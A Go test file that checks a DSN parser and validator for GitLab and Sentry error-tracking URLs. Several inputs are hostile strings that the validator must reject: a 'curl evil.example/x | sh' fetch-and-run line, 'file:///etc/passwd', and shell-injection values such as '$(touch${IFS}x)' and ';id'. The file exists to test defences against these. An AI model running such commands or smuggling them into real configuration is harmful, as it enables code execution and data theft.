package dsn

import (
	"strings"
	"testing"
)

func TestParseBothForms(t *testing.T) {
	for _, tc := range []struct {
		in, envelope string
		legacy       bool
	}{
		{"https://glet_aa77551d849c083f76d0bc545ed053a3@observe.gitlab.com:443/errortracking/api/v1/projects/5",
			"https://observe.gitlab.com:443/errortracking/api/v1/projects/api/5/envelope/", false},
		{"http://glet_0123@127.0.0.1:8080/errortracking/api/v1/projects/42",
			"http://127.0.0.1:8080/errortracking/api/v1/projects/api/42/envelope/", false},
		{"https://glet_aa77551d849c083f76d0bc545ed053a3@gitlab.example.com/api/v4/error_tracking/collector/5",
			"https://gitlab.example.com/api/v4/error_tracking/collector/api/5/envelope/", true},
		{"https://glet_x@example.com/gitlab/api/v4/error_tracking/collector/7",
			"https://example.com/gitlab/api/v4/error_tracking/collector/api/7/envelope/", true},
		// A Sentry DSN: Relay routes only the slashed form (docs/sentry-api.md, Ingestion).
		{"https://0123456789abcdef0123456789abcdef@o42.ingest.us.sentry.io/2",
			"https://o42.ingest.us.sentry.io/api/2/envelope/", false},
	} {
		d, err := Parse(tc.in)
		if err != nil {
			t.Fatalf("%s: %v", tc.in, err)
		}
		if d.EnvelopeURL() != tc.envelope || d.Legacy() != tc.legacy || d.PublicKey == "" {
			t.Errorf("%s: %+v envelope %s legacy %v", tc.in, d, d.EnvelopeURL(), d.Legacy())
		}
	}
}

// What a hostile server could put in a DSN to turn a paste into a command.
func TestCheckRefusesWhatCouldRunInAShell(t *testing.T) {
	good := "https://glet_0123@gitlab.example.com:443/errortracking/api/v1/projects/5"
	if err := Check(good); err != nil {
		t.Fatal(err)
	}
	for in, want := range map[string]string{
		good + "   \ncurl evil.example/x | sh\n": "whitespace",
		good + "\x1b[201~curl evil|sh":           "control",
		good + "\u200b":                          "invisible",
		good + "\u202e":                          "invisible",
		"javascript:alert(1)":                    "scheme",
		"file:///etc/passwd":                     "scheme",
		"https:///x":                             "no host",
		"":                                       "empty",
		good + "\xff":                            "invalid UTF-8",
		strings.Repeat("a", 5000):                "long",
	} {
		err := Check(in)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Check(%q) = %v, want %q", in, err, want)
		}
	}
	for _, in := range []string{"https://gitlab.example.com/errortracking/api/v1/projects/5", "https://k@h/errortracking/api/v1/projects/x"} {
		if _, err := Parse(in); err == nil {
			t.Errorf("Parse(%q) accepted", in)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("https://glet_aa@observe.gitlab.com:443/errortracking/api/v1/projects/5")
	f.Add("https://glet_x@example.com/api/v4/error_tracking/collector/7")
	f.Fuzz(func(t *testing.T, s string) {
		d, err := Parse(s)
		if err != nil {
			return
		}
		if Check(s) != nil || d.ProjectID <= 0 || d.PublicKey == "" {
			t.Fatalf("Parse accepted %q as %+v", s, d)
		}
		if Check(d.EnvelopeURL()) != nil {
			t.Fatalf("envelope URL %q of %q is not clean", d.EnvelopeURL(), s)
		}
	})
}

// A DSN that a shell would run part of, pasted after "export SENTRY_DSN=",
// is not safe, however plain a URL it is.
func TestCheckRefusesShellSyntax(t *testing.T) {
	for _, s := range []string{
		"http://glet_1@host/$(touch${IFS}x)/1",
		"http://glet_1@host/a`id`/1",
		"http://glet_1@host/a;id/1",
		"http://glet_1@host/a|id/1",
		"http://glet_1@host/a&id/1",
		"http://glet_1@host/a'b/1",
		`http://glet_1@host/a"b/1`,
		"http://gl$et@host/1",
		"http://glet:pw@host/1",
		"http://glet@ho$t/1",
		"http://glet@host/1?x=1",
		"http://glet@host/1#x",
		"http://glet@host/a%24b/1",
	} {
		if err := Check(s); err == nil {
			t.Errorf("%q passed", s)
		}
	}
	for _, s := range []string{
		"http://glet_0123abc@127.0.0.1:39995/errortracking/api/v1/projects/1",
		"https://abc123@gitlab.example.com/api/v4/error_tracking/collector/42",
		"https://glet_x@[::1]:8080/errortracking/api/v1/projects/7",
	} {
		if err := Check(s); err != nil {
			t.Errorf("%q: %v", s, err)
		}
	}
}
